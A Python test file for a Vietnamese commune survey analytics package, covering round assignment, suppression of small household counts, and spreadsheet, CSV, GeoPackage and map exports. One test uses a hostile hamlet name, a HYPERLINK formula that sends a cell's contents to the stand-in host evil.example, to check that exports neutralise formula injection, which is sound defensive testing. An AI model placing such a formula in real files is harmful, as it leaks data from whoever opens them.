"""Rounds and trends, small-cell suppression, and the export files."""

import io
import tempfile
from datetime import date
from pathlib import Path

import pandas as pd
import pyogrio
from openpyxl import load_workbook

from analytics import exports
from analytics.frames import frames_typed, raw_from_records
from analytics.geo import hamlets_frame
from analytics.pipeline import hamlet_indicators_compute
from analytics.rounds import Round, rounds_assign, scorecard_tier, tier_for_round, windows_overlapping
from analytics.suppress import rows_suppress, scorecard_suppress
from tests.analytics.builders import assessment, hamlet_rows, household, square


def compute(records, hamlets, **kwargs):
    return hamlet_indicators_compute(frames_typed(raw_from_records(records)), hamlets_frame(hamlets), **kwargs)


def test_rounds_are_declared_a_manual_assignment_wins_and_the_rest_is_unassigned():
    dates = pd.Series(pd.to_datetime(["2025-03-10", "2025-11-02", "2026-12-15", None, "2026-06-01", "2025-04-01"]))
    override = pd.Series(["", "", "", "2027", "2026", "2027"])
    rounds = [
        Round("2025-dau-ky", date(2025, 1, 1), date(2025, 6, 30), 2025),
        Round("2027", date(2027, 1, 1), date(2027, 12, 31), 2027),
    ]
    assert list(rounds_assign(dates, override, rounds)) == [
        "2025-dau-ky",  # inside the declared window
        "",  # outside every window: unassigned, no guessing from the form's round field
        "",  # a December-2026 test interview creates no "2026" round
        "2027",  # no date, assigned by hand
        "",  # assigned by hand to a round nobody declared: still unassigned
        "2027",  # the manual assignment wins over the window
    ]


def test_tier_comes_from_the_declared_target_year():
    rounds = [
        Round("2025-dau-ky", date(2025, 1, 1), date(2025, 6, 30), 2027),
        Round("x", date(2028, 1, 1), date(2028, 2, 1)),
    ]
    assert tier_for_round("2025-dau-ky", rounds) == 2027  # not the "2025" in its name
    assert tier_for_round("x", rounds) == 2028  # no target year declared: the window's end year
    assert tier_for_round("2026", rounds) is None  # not declared
    assert [scorecard_tier(y) for y in (2025, 2027, 2028, 2030, 2031, None)] == [2027, 2027, 2030, 2030, 2030, 2027]


def test_overlapping_windows_are_found():
    a = Round("a", date(2025, 1, 1), date(2025, 6, 30))
    b = Round("b", date(2025, 6, 30), date(2025, 12, 31))
    c = Round("c", date(2026, 1, 1), date(2026, 1, 31))
    assert windows_overlapping([c, b, a]) == [("a", "b")]


def test_a_submission_outside_every_round_changes_no_figure():
    base = [household("AP01", tt_57="co", day=date(2025, 10, 1)) for _ in range(6)]
    stray = [household("AP01", tt_57="khong", day=date(2026, 12, 1)) for _ in range(2)]
    before = compute(base, hamlet_rows(("AP01", 8, None, False)))
    after = compute(base + stray, hamlet_rows(("AP01", 8, None, False)))
    assert set(after.rows["round"]) == {"2025"}
    pd.testing.assert_frame_equal(before.rows, after.rows)
    assert after.counts["unassigned_round"] == 2 and before.counts["unassigned_round"] == 0


def test_each_round_is_its_own_series_point():
    records = [household("AP01", tt_57="khong", day=date(2025, 10, 1)) for _ in range(4)]
    records += [household("AP01", tt_57="co", day=date(2027, 10, 1)) for _ in range(3)]
    records += [household("AP01", tt_57="khong", day=date(2027, 10, 2))]
    results = compute(records, hamlet_rows(("AP01", 8, None, False)))
    a5 = results.rows[(results.rows["indicator"] == "P2025_INFO") & (results.rows["hamlet"] == "AP01")]
    series = a5.set_index("round")["value"].to_dict()
    assert series == {"2025": 0.0, "2027": 75.0}


def test_cells_under_five_households_are_suppressed_and_say_so():
    records = [household("AP01") for _ in range(4)] + [household("AP02") for _ in range(5)]
    records.append(assessment("AP01"))
    results = compute(records, hamlet_rows(("AP01", 10, None, False), ("AP02", 10, None, False)))
    shown = rows_suppress(results.rows, 5)

    def cell(indicator, hamlet):
        rows = shown[(shown["indicator"] == indicator) & (shown["round"] == "2025")]
        return rows[rows["hamlet"].isna()].iloc[0] if hamlet is None else rows[rows["hamlet"] == hamlet].iloc[0]

    small = cell("A5", "AP01")
    assert small["suppressed"] and small["value"] is None and small["numerator"] is None and small["ci_low"] is None
    assert small["met"] is None
    assert not cell("A5", "AP02")["suppressed"] and cell("A5", "AP02")["value"] == 100.0
    # 9 households for the commune, but the commune row minus AP02 would give AP01 back, and
    # two hamlets are too few to hide three: the commune row is hidden (issue 17).
    assert cell("A5", None)["suppressed"] and cell("A5", None)["value"] is None
    # A hamlet's own facts (free wifi at the cultural house) describe no person: never hidden.
    assert not cell("B3", "AP01")["suppressed"] and cell("B3", "AP01")["value"] == 100.0
    # The person cell goes by the households behind it: 4 households → hidden.
    assert cell("C3", "AP01")["suppressed"]

    hidden, _ = scorecard_suppress(results.scorecard, results.scorecard_summary, shown, 5)
    c1 = hidden[(hidden["hamlet"] == "AP01") & (hidden["criterion"] == "C1")].iloc[0]
    assert c1["suppressed"] and c1["value"] is None and c1["status"].startswith("Ẩn")


def _results():
    records = [household("AP01", tt_57="co") for _ in range(5)] + [household("AP02", tt_57="khong") for _ in range(5)]
    records += [assessment("AP01"), assessment("AP02", team=False)]
    hamlets = hamlet_rows(
        ("AP01", 5, square(107.30, 10.90, 0.01), True), ("AP02", 5, square(107.31, 10.90, 0.01), False)
    )
    return compute(records, hamlets), hamlets_frame(hamlets)


def test_csv_export_is_utf8_with_a_byte_order_mark_and_vietnamese_headers():
    results, _ = _results()
    body = exports.csv_bytes(results.rows, {"AP01": "Ấp Phú Dũng"})
    assert body.startswith(b"\xef\xbb\xbf")
    text = body.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("Mã chỉ tiêu,Chỉ tiêu,Indicator")
    assert "Ấp Phú Dũng" in text and "Toàn xã" in text


def test_xlsx_export_has_one_sheet_per_level():
    results, _ = _results()
    body = exports.xlsx_bytes(results.rows, results.scorecard, results.scorecard_summary, results.coverage)
    book = load_workbook(io.BytesIO(body))
    assert book.sheetnames == ["Toàn xã", "Theo ấp", "Tiêu chí KDC CĐS", "Tổng hợp KDC CĐS", "Độ phủ khảo sát"]
    assert book["Theo ấp"]["A1"].value == "Mã chỉ tiêu"
    # Headers bold and kept in view while scrolling a province's rows.
    assert book["Theo ấp"]["A1"].font.b and book["Theo ấp"].freeze_panes == "A2"
    # The scorecard sheet: one row per hamlet and tier, value and result per criterion.
    sheet = book["Tiêu chí KDC CĐS"]
    header = [c.value for c in sheet[1]]
    assert header[:5] == ["Đợt khảo sát", "Mã ấp", "Mức", "A1 giá trị", "A1 kết quả"]
    rows = {(r[1], r[2]): dict(zip(header, r, strict=True)) for r in sheet.iter_rows(min_row=2, values_only=True)}
    # AP02's assessment has no Tổ CNSCĐ: A1 is 0 and "Chưa đạt"; AP01 has one.
    assert rows[("AP02", 2027)]["A1 giá trị"] == 0 and rows[("AP02", 2027)]["A1 kết quả"] == "Chưa đạt"
    assert rows[("AP01", 2027)]["A1 kết quả"] == "Đạt"


def test_geopackage_export_opens_with_one_feature_per_hamlet_and_round():
    results, hamlets = _results()
    body = exports.gpkg_bytes(hamlets, results.rows)
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "x.gpkg"
        path.write_bytes(body)
        layer = pyogrio.read_dataframe(path, layer="chi_so_ap")
    assert sorted(layer["code"]) == ["AP01", "AP02"]
    assert layer.set_index("code").loc["AP01", "A5"] == 100.0
    assert layer.crs.to_epsg() == 4326


def test_choropleth_is_a_png_and_geojson_carries_the_values():
    results, hamlets = _results()
    png = exports.choropleth_png(hamlets, results.rows, "A5", "2025")
    assert png.startswith(b"\x89PNG\r\n\x1a\n") and len(png) > 5000
    collection = exports.geojson_dict(hamlets, results.rows, "A5", "2025")
    values = {f["properties"]["code"]: f["properties"]["value"] for f in collection["features"]}
    assert values == {"AP01": 100.0, "AP02": 0.0}
    assert collection["features"][0]["geometry"]["type"] == "Polygon"


def test_a_hamlet_name_that_looks_like_a_formula_is_inert_in_csv_and_xlsx():
    results, _ = _results()
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Ấp")'
    text = exports.csv_bytes(results.rows, {"AP01": hostile}).decode("utf-8-sig")
    assert "'=HYPERLINK" in text
    assert ",=HYPERLINK" not in text and ',"=HYPERLINK' not in text
    summary = results.scorecard_summary.assign(name=hostile)
    book = load_workbook(
        io.BytesIO(exports.xlsx_bytes(results.rows, results.scorecard, summary, results.coverage, {"AP01": hostile}))
    )
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    hostile_cells = [c for c in cells if "HYPERLINK" in c.value]
    assert hostile_cells, "the hostile name should appear in the workbook"
    assert all(c.value.startswith("'=") and c.data_type == "s" for c in hostile_cells)


def test_stored_result_tables_come_back_with_the_same_values():
    frame = pd.DataFrame(
        {
            "hamlet": ["AP01", None, 'Ấp "Phú Dũng"\nmới'],
            "value": [66.67, float("nan"), 0.0],
            "met": [True, False, None],
            "n_units": [6, 0, 3],
        }
    )

    back = exports.tables_unpack(exports.tables_pack({"rows": frame, "empty": frame.iloc[:0], "none": None}))

    assert list(back["rows"].columns) == ["hamlet", "value", "met", "n_units"]
    hamlets = back["rows"]["hamlet"]
    assert hamlets.isna().tolist() == [False, True, False]  # the commune row
    assert hamlets[0] == "AP01" and hamlets[2] == 'Ấp "Phú Dũng"\nmới'
    assert back["rows"]["value"].tolist()[0] == 66.67 and pd.isna(back["rows"]["value"][1])
    assert back["rows"]["met"].tolist() == [True, False, None]
    assert back["rows"]["n_units"].tolist() == [6, 0, 3]
    assert back["empty"].empty and list(back["empty"].columns) == list(frame.columns)
    assert back["none"].empty


def test_the_png_map_greys_and_hatches_a_hamlet_below_the_minimum_sample_and_says_so():
    from matplotlib import pyplot as plt
    from matplotlib.colors import to_hex

    results, hamlets = _results()  # 5 households in each hamlet
    rows = results.rows.drop(columns=["too_few", "n"], errors="ignore")
    figure = exports.choropleth_figure(hamlets, rows, "A5", "2025", min_sample=5)
    try:
        assert not figure.axes[0].get_legend()  # both hamlets reach 5: nothing is too few
    finally:
        plt.close(figure)
    figure = exports.choropleth_figure(hamlets, rows, "A5", "2025", min_sample=30)
    try:
        axes = figure.axes[0]
        legend = [t.get_text() for t in axes.get_legend().get_texts()]
        assert legend == ["Không đủ mẫu / too few (n < 30)"]
        greyed = [c for c in axes.collections if c.get_gid() == "too_few"]
        assert len(greyed) == 1 and greyed[0].get_hatch() == "xxx"
        assert {to_hex(c) for c in greyed[0].get_facecolor()} == {exports.TOO_FEW_COLOUR}
        labels = [t.get_text() for t in axes.texts]
        assert all("không đủ mẫu / too few (n = 5)" in t for t in labels) and len(labels) == 2
        assert not any(t.endswith("\n100") for t in labels)  # no percentage printed on a too-few hamlet
    finally:
        plt.close(figure)
    marked = exports.choropleth_png(hamlets, rows, "A5", "2025", min_sample=30)
    plain = exports.choropleth_png(hamlets, rows, "A5", "2025", min_sample=5)
    assert marked.startswith(b"\x89PNG") and marked != plain
